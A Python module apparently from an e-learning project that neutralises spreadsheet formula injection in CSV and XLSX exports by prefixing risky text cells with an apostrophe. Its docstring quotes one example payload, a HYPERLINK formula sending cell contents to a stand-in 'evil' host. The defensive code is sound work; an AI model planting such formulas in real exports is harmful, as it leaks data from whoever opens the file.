"""CSV that a spreadsheet opens as data: every text cell that could start a formula is neutralised.

Why: unit names, course titles and learner answers come from people we do not control, and Excel or
LibreOffice evaluate a cell starting with `=`, `+`, `-`, `@` (or a tab / carriage return before one)
as a formula: `=HYPERLINK("http://evil/?"&A1,"Bấm vào đây")` leaks data when staff open the file.
The cell keeps its text, prefixed with `'` (shown as text, not evaluated). Numbers stay numbers.
Every CSV export of the project writes through `csv_writer` (graders' completion report, auto_quiz's
item statistics), every XLSX export through `xlsx_bytes` (an agency's staff list): openpyxl stores a text
starting with `=` as a formula, so the same `spreadsheet_cell` defuses those cells too. Pure: no framework
import, so both xblocks and graders can use it.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable
from typing import Any, TextIO

_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")  # "-0.1234" is a number, not a formula
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # + full-width


def spreadsheet_cell(value: Any) -> Any:
    """The value as a spreadsheet will read it safely: numbers unchanged, None empty, text defused."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return value
    text = str(value)
    if text.lstrip(" ").startswith(_FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `spreadsheet_cell`."""

    def __init__(self, out: TextIO, **options: Any):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: TextIO, **options: Any) -> SafeCsvWriter:
    """A CSV writer for any export that leaves this project (options as for `csv.writer`)."""
    return SafeCsvWriter(out, **options)


def xlsx_bytes(header: Iterable[Any], rows: Iterable[Iterable[Any]], *, sheet_title: str = "Sheet1") -> bytes:
    """An .xlsx workbook of one sheet: the header row in bold, then the rows, every text cell through
    `spreadsheet_cell`; dates stay date cells (shown dd/mm/yyyy). Streams (openpyxl's write-only mode)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    sheet = book.create_sheet(sheet_title[:31])
    bold = Font(bold=True)
    titles = []
    for title in header:
        cell = WriteOnlyCell(sheet, value=spreadsheet_cell(title))
        cell.font = bold
        titles.append(cell)
    sheet.append(titles)

    def date_cell(value: dt.date) -> WriteOnlyCell:
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = "DD/MM/YYYY"
        return cell

    for row in rows:
        sheet.append([date_cell(value) if isinstance(value, dt.date)
                      else None if value is None else spreadsheet_cell(value) for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
